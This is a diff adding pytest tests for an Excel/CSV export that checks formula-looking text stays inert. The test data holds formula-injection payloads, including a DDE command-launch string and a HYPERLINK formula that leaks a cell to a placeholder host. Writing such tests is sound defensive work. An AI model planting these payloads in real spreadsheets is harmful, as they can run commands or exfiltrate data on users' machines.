@@ -1,0 +1,135 @@
+"""alertdata.xlsx: hostile text stays text, the format's limits are handled,
+and the CSV files stay a faithful copy of the same values."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pyarrow as pa
+import pytest
+
+from alertdata import spreadsheet
+from alertdata.pipeline import build
+from alertdata.spreadsheet import CUT_AT, write_xlsx
+
+ALERTS = Path(__file__).parent / "data" / "corpus" / "alerts"
+# what a spreadsheet would run as a formula, typed into a cell or opened from CSV
+HOSTILE = ["=1+1", "+A1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
+           '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "\t=1+1", "\r=1+1",
+           "=", "-", "＝1+1", "=1+1\n=2+2"]
+
+
+def unescape(value):
+    """openpyxl leaves OOXML's _xHHHH_ escapes (control characters) as they are."""
+    if not isinstance(value, str):
+        return value
+    value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)
+    return value
+
+
+def cells(path: Path, sheet: str) -> list[tuple]:
+    book = openpyxl.load_workbook(path)
+    return [tuple(c for c in row) for row in book[sheet].iter_rows()]
+
+
+def no_formulas(path: Path) -> bool:
+    with zipfile.ZipFile(path) as z:
+        return not any(re.search(rb"<f[ >]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_text_that_looks_like_a_formula_is_stored_as_text(tmp_path):
+    path = tmp_path / "book.xlsx"
+    write_xlsx({"statements": pa.table({"quote": HOSTILE, "n": list(range(len(HOSTILE)))})}, path,
+               version="test")
+    rows = cells(path, "statements")
+    assert [c.value for c in rows[0]] == ["quote", "n"]
+    assert [unescape(r[0].value) for r in rows[1:]] == HOSTILE
+    assert {r[0].data_type for r in rows[1:]} == {"s"}        # text cells, not formulas ("f")
+    assert [r[1].value for r in rows[1:]] == list(range(len(HOSTILE)))
+    assert no_formulas(path)
+
+
+def test_a_built_release_keeps_a_hostile_quote_as_text_in_xlsx_and_verbatim_in_csv(tmp_path):
+    text = (ALERTS / "ca-0421-sudan.txt").read_text(encoding="utf-8")
+    hostile = "=cmd|' /C calc'!A0 We did not start this war"
+    text = text.replace("We did not start this war", hostile)
+    assert hostile in text
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "sudan.txt").write_text(text, encoding="utf-8")
+    out = tmp_path / "out"
+    build([tmp_path / "in"], out, jobs=1)
+
+    with (out / "csv" / "statements.csv").open(encoding="utf-8", newline="") as fh:
+        quotes = [row["quote"] for row in csv.DictReader(fh)]
+    assert any(q.startswith(hostile) for q in quotes)      # the CSV holds the data as it is
+    book = openpyxl.load_workbook(out / "alertdata.xlsx")
+    header = [c.value for c in book["statements"][1]]
+    column = header.index("quote")
+    found = [row[column] for row in book["statements"].iter_rows(min_row=2)]
+    assert [c.value for c in found] == quotes
+    assert all(c.data_type == "s" for c in found)
+    assert no_formulas(out / "alertdata.xlsx")
+    assert "alertdata.xlsx" in (out / "SHA256SUMS").read_text()
+
+
+def test_every_table_has_a_sheet_with_real_dates_and_joined_lists(tmp_path):
+    out = tmp_path / "out"
+    build([ALERTS / "ca-0421-sudan.txt"], out, jobs=1)
+    book = openpyxl.load_workbook(out / "alertdata.xlsx")
+    assert book.sheetnames[0] == "about"
+    assert set(book.sheetnames[1:]) == {p.stem for p in (out / "csv").iterdir()}
+    alerts = list(book["alerts"].iter_rows(values_only=True))
+    row = dict(zip(alerts[0], alerts[1]))
+    assert row["published_on"] == dt.datetime(2023, 4, 21)
+    assert book["alerts"]["A2"].number_format == "yyyy-mm-dd" or any(
+        c.number_format == "yyyy-mm-dd" for c in book["alerts"][2])
+    with (out / "csv" / "alerts.csv").open(encoding="utf-8", newline="") as fh:
+        assert row["authors"] == (next(csv.DictReader(fh))["authors"] or None)
+
+
+def test_texts_longer_than_a_cell_are_cut_with_a_note(tmp_path):
+    path = tmp_path / "book.xlsx"
+    write_xlsx({"alerts": pa.table({"body": ["x" * 40_000, "short", None]})}, path, version="test")
+    values = [r[0].value for r in cells(path, "alerts")[1:]]
+    assert values[0].startswith("x" * CUT_AT) and values[0].endswith("the full text is in csv/alerts.csv]")
+    assert len(values[0]) <= 32_767
+    assert values[1] == "short"      # (openpyxl drops the trailing empty row)
+    about = dict(cells_values(path, "about"))
+    assert "1 text(s) longer than an Excel cell were cut" in about["alerts"]
+
+
+def cells_values(path: Path, sheet: str):
+    return [tuple(c.value for c in row) for row in cells(path, sheet)]
+
+
+def test_a_table_longer_than_a_sheet_continues_on_the_next(tmp_path, monkeypatch):
+    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 4)
+    path = tmp_path / "book.xlsx"
+    write_xlsx({"events": pa.table({"k": list(range(10))})}, path, version="test")
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["about", "events", "events (2)", "events (3)"]
+    got = [v for s in book.sheetnames[1:] for (v,) in book[s].iter_rows(min_row=2, values_only=True)]
+    assert got == list(range(10))
+    assert all(book[s]["A1"].value == "k" for s in book.sheetnames[1:])
+
+
+def test_the_workbook_bytes_depend_only_on_the_data(tmp_path):
+    table = {"alerts": pa.table({"published_on": pa.array([dt.date(2024, 5, 1)], pa.date32())})}
+    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
+    write_xlsx(table, a, version="test", created=dt.date(2024, 5, 1))
+    write_xlsx(table, b, version="test", created=dt.date(2024, 5, 1))
+    assert a.read_bytes() == b.read_bytes()
+    with zipfile.ZipFile(a) as z:
+        assert z.testzip() is None
+        assert b"2024-05-01T00:00:00Z" in z.read("docProps/core.xml")
+
+
+@pytest.mark.parametrize("sheet", ["rejects"])
+def test_an_empty_table_still_has_its_sheet_and_header(tmp_path, sheet):
+    path = tmp_path / "book.xlsx"
+    write_xlsx({sheet: pa.table({"source_path": pa.array([], pa.string())})}, path, version="test")
+    assert cells_values(path, sheet) == [("source_path",)]
